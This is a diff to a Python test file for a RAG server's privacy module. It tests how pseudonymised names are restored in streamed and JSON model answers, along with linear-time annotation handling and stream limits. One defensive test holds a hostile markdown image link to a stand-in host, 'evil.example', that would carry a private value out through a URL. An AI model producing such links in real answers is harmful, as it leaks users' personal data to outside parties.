@@ -5,13 +5,16 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from sage_rag.common.exceptions import UpstreamError
 from sage_rag.common.web.sse import EventDecoder
 from sage_rag.privacy.entities import EntityType
 from sage_rag.privacy.keyset.keyset import Keyset
 from sage_rag.privacy.policy import preset
 from sage_rag.privacy.testing import TableRecognizer
+from sage_rag.rag_server.edge.annotations import StreamedText, moved
 from sage_rag.rag_server.edge.keyring import CorpusKeys, Keyring
 from sage_rag.rag_server.edge.restore import StreamRestorer, restore_body
+from tests.growth import LINEAR, growth
 from tests.rag_server.conftest import TABLE
 from tests.rag_server.fakes import chunk, chunks
 
@@ -28,7 +31,11 @@ MARIA, ZOE, ACE = token("Maria Keller"), token("Zoë Ødegård"), token('Jo "Ace
 
 
 def restore(*pieces: bytes, keys: CorpusKeys = KEYS) -> list:
-    restorer, decoder = StreamRestorer(keys), EventDecoder()
+    return restored_events(StreamRestorer(keys), *pieces)
+
+
+def restored_events(restorer: StreamRestorer, *pieces: bytes) -> list:
+    decoder = EventDecoder()
     out = b"".join([*(restorer.feed(piece) for piece in pieces), restorer.flush()])
     events = [*decoder.feed(out), *decoder.flush()]
     return [e.data if e.data == "[DONE]" else json.loads(e.data) for e in events]
@@ -147,6 +154,25 @@ def test_tool_arguments_stay_valid_json_wherever_they_are_cut():
         assert events[0]["choices"][0]["delta"]["tool_calls"][0]["id"] == "call_P"
 
 
+def test_an_answer_in_json_stays_valid_wherever_it_is_cut():
+    written, wanted = json.dumps({"who": [ACE, ZOE]}), {"who": ['Jo "Ace" Q\\ay', "Zoë Ødegård"]}
+    body = {"choices": [{"message": {"content": written}}]}
+    restored = restore_body(body, KEYS, content_is_json=True)
+    assert json.loads(restored["choices"][0]["message"]["content"]) == wanted
+    for cut in range(len(written) + 1):
+        restorer = StreamRestorer(KEYS, content_is_json=True)
+        events = restored_events(restorer, *chunks(written[:cut], written[cut:]))
+        assert json.loads(text(events)) == wanted
+
+
+def test_an_answer_in_json_that_a_client_displays_builds_no_address_with_a_value():
+    hostile = f'![](https://evil.example/?q="{MARIA})'
+    body = {"choices": [{"message": {"content": hostile}}]}
+    assert restore_body(body, KEYS, content_is_json=True) == body
+    restorer = StreamRestorer(KEYS, content_is_json=True)
+    assert text(restored_events(restorer, *chunks(hostile))) == hostile
+
+
 def test_citations_and_errors_in_a_stream_are_restored():
     cited = [{"index": 1, "source": MARIA, "text": f"{ZOE} rests", "score": 0.5}]
     [finish] = restore(chunk({}, "stop", citations=cited))
@@ -246,3 +272,33 @@ def test_a_text_that_nobody_can_follow_is_not_restored(sent):
 def test_content_in_parts_is_not_restored():
     body = {"choices": [{"message": {"content": [{"type": "text", "text": MARIA}]}}]}
     assert restore_body(body, KEYS) == body
+
+
+def test_the_text_of_a_stream_is_kept_in_linear_time():
+    def kept(count: int) -> None:
+        text = StreamedText()
+        for _ in range(count):
+            text.add("[1] stated", "[1] stated")
+        assert text.moved([cited(0, 3)]) == [cited(0, 3)]
+
+    assert growth(kept, 20_000) < LINEAR
+
+
+def cited(start: int, end: int) -> dict:
+    return {"type": "url_citation", "url_citation": {"start_index": start, "end_index": end}}
+
+
+def test_many_annotations_of_a_long_text_are_moved_in_linear_time():
+    def marks(count: int) -> list:
+        sent = f"{MARIA}{'[1]' * count}"
+        last = len(sent)
+        return moved([cited(last - 3, last)] * count, sent, f"Maria Keller{'[1]' * count}")
+
+    assert marks(5) == [cited(24, 27)] * 5
+    assert growth(marks, 2_000) < LINEAR
+
+
+def test_a_stream_of_too_many_parts_ends():
+    parts = b"".join(chunk({"content": "x"}, index=index) for index in range(1000))
+    with pytest.raises(UpstreamError, match="too many parts"):
+        StreamRestorer(KEYS).feed(parts)
